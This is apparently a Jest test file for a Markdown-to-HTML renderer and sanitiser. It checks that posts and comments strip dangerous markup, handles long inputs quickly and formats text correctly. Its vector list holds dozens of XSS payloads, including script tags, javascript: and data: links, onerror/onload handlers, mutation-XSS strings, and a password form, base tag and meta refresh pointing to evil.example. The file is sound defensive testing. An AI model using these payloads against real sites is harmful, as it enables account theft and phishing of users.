import { SaxesParser } from 'saxes';
import { naughtyStrings } from '@lyceum/testing';
import { renderComment, renderPost } from './markdown';
import { allowedTags } from './sanitise';

const attributes = new Set(
  'href title rel src alt width height loading referrerpolicy start align class'.split(' '),
);

/** What is in the HTML and should not be. It is well-formed, so no browser can take it for something else. */
const dangers = (html: string): string[] => {
  const found: string[] = [];
  const parser = new SaxesParser({ fragment: true });
  parser.on('error', ({ message }) => {
    if (!message.includes('disallowed character')) found.push(message); // controls: XML's rule, not HTML's
  });
  parser.on('comment', () => found.push('comment'));
  parser.on('cdata', () => found.push('cdata'));
  parser.on('processinginstruction', ({ target }) => found.push(target));
  parser.on('opentag', ({ name, attributes: own }) => {
    if (!allowedTags.has(name)) found.push(`<${name}>`);
    for (const [key, value] of Object.entries(own)) {
      if (!attributes.has(key)) found.push(`${name}.${key}`);
      if (key === 'src' && !/^https:\/\//i.test(value)) found.push(`src=${value}`);
      if (key === 'href' && !/^(https?:\/\/|mailto:)/i.test(value)) found.push(`href=${value}`);
    }
  });
  parser.write(html).close();
  return found;
};

const vectors = [
  '<script>alert(1)</script>',
  'a <script>alert(1)</script> b',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://ok.example/a.png" onload=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img """><script>alert(1)</script>">',
  '[x](javascript:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](JaVaScRiPt:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:msgbox(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](/admin/delete?all=1)',
  '[x](//evil.example)',
  '[x][y]\n\n[y]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](http://i.example/a.png)',
  '![x"onerror="alert(1)](https://i.example/a.png "t\\"onload=\\"alert(1)")',
  '[x](https://ok.example/"onmouseover="alert(1))',
  '```js" onclick="alert(1)\n1\n```',
  '~~~<script>\n1\n~~~',
  '`<script>alert(1)</script>`',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<form action="https://evil.example"><input name=password><button>go</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<style>@import "https://evil.example/x.css"</style>',
  '<p style="position:fixed;inset:0" onclick="alert(1)" id="login">x</p>',
  '<details open ontoggle=alert(1)>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<textarea></textarea><script>alert(1)</script>',
  '<code class="lang-js evil" onclick=x>1</code>',
  '</p></div></article><h1>',
];

describe('renderPost and renderComment', () => {
  it.each(vectors)('leave nothing to run in %s', (text) => {
    expect(dangers(renderPost(text))).toEqual([]);
    expect(dangers(renderComment(text))).toEqual([]);
  });

  it('take every naughty string', () => {
    for (const text of naughtyStrings) {
      for (const html of [renderPost(text), renderComment(text)])
        expect([text, dangers(html)]).toEqual([text, []]);
    }
  });

  it.each([
    ['brackets', '['],
    ['nested links', '[a]('],
    ['emphasis', '*a_'],
    ['quotes', '> '],
    ['lists', '- '],
    ['backticks', '`a``'],
    ['tags', '<b>'],
    ['attributes', '<a x='],
    ['comments', '<!-'],
    ['mail addresses', 'a@a.'],
    ['addresses', 'http://a.'],
    ['entities', '&a'],
    ['tables', '|a|\n|-|\n'],
    ['autolinks', '<http:'],
    ['references', '[a]: b\n'],
  ])('are quick with 30,000 characters of %s', (_, piece) => {
    const text = piece.repeat(Math.ceil(30_000 / piece.length)).slice(0, 30_000);
    const before = process.cpuUsage(); // not the clock's time: the machine may be busy with other things
    renderPost(text);
    renderComment(text);
    expect(process.cpuUsage(before).user / 1_000).toBeLessThan(2_000);
  });
});

describe('renderPost', () => {
  it('formats', () => {
    const text =
      '# Why\n\nSee **this** & `a < b`, https://x.example\n\n```js\nlet x;\n```\n\n3. x\n\n|a|b|\n|-|:-:|\n|1|2|\n';
    expect(renderPost(text)).toBe(
      '<h1>Why</h1>\n<p>See <strong>this</strong> &amp; <code>a &lt; b</code>, ' +
        '<a href="https://x.example" rel="nofollow ugc noopener">https://x.example</a></p>\n' +
        '<pre><code class="language-js">let x;\n</code></pre>\n<ol start="3">\n<li>x</li>\n</ol>\n' +
        '<table>\n<thead>\n<tr>\n<th>a</th>\n<th>b</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td>1</td>\n<td>2</td>\n</tr>\n</tbody>\n</table>',
    );
  });

  it('keeps the HTML that posts may have, and shows what only looks like HTML', () => {
    expect(renderPost('H<sub>2</sub>O is a Map<String, List<T>>')).toBe(
      '<p>H<sub>2</sub>O is a Map&lt;String, List&lt;T&gt;&gt;</p>',
    );
    expect(renderPost('<T>\n\n<kbd>x</kbd>')).toBe(
      '&lt;T&gt;\n\n<p><kbd>x</kbd></p>'.replace('\n\n', '\n'),
    );
  });

  it('marks links and images as a stranger’s', () => {
    expect(renderPost('![a](http://i.example/a.png) [x](http://x.example)')).toBe(
      '<p><img src="https://i.example/a.png" alt="a" loading="lazy" referrerpolicy="no-referrer" /> ' +
        '<a href="http://x.example" rel="nofollow ugc noopener">x</a></p>',
    );
  });
});

describe('renderComment', () => {
  it('formats a line or two, and shows HTML as it was written', () => {
    expect(renderComment('*a* `b`\n<b>c</b> [x](https://x.example)')).toBe(
      '<em>a</em> <code>b</code><br />\n&lt;b&gt;c&lt;/b&gt; <a href="https://x.example" rel="nofollow ugc noopener">x</a>',
    );
    expect(renderComment('# a\n- b')).toBe('# a<br />\n- b');
  });
});
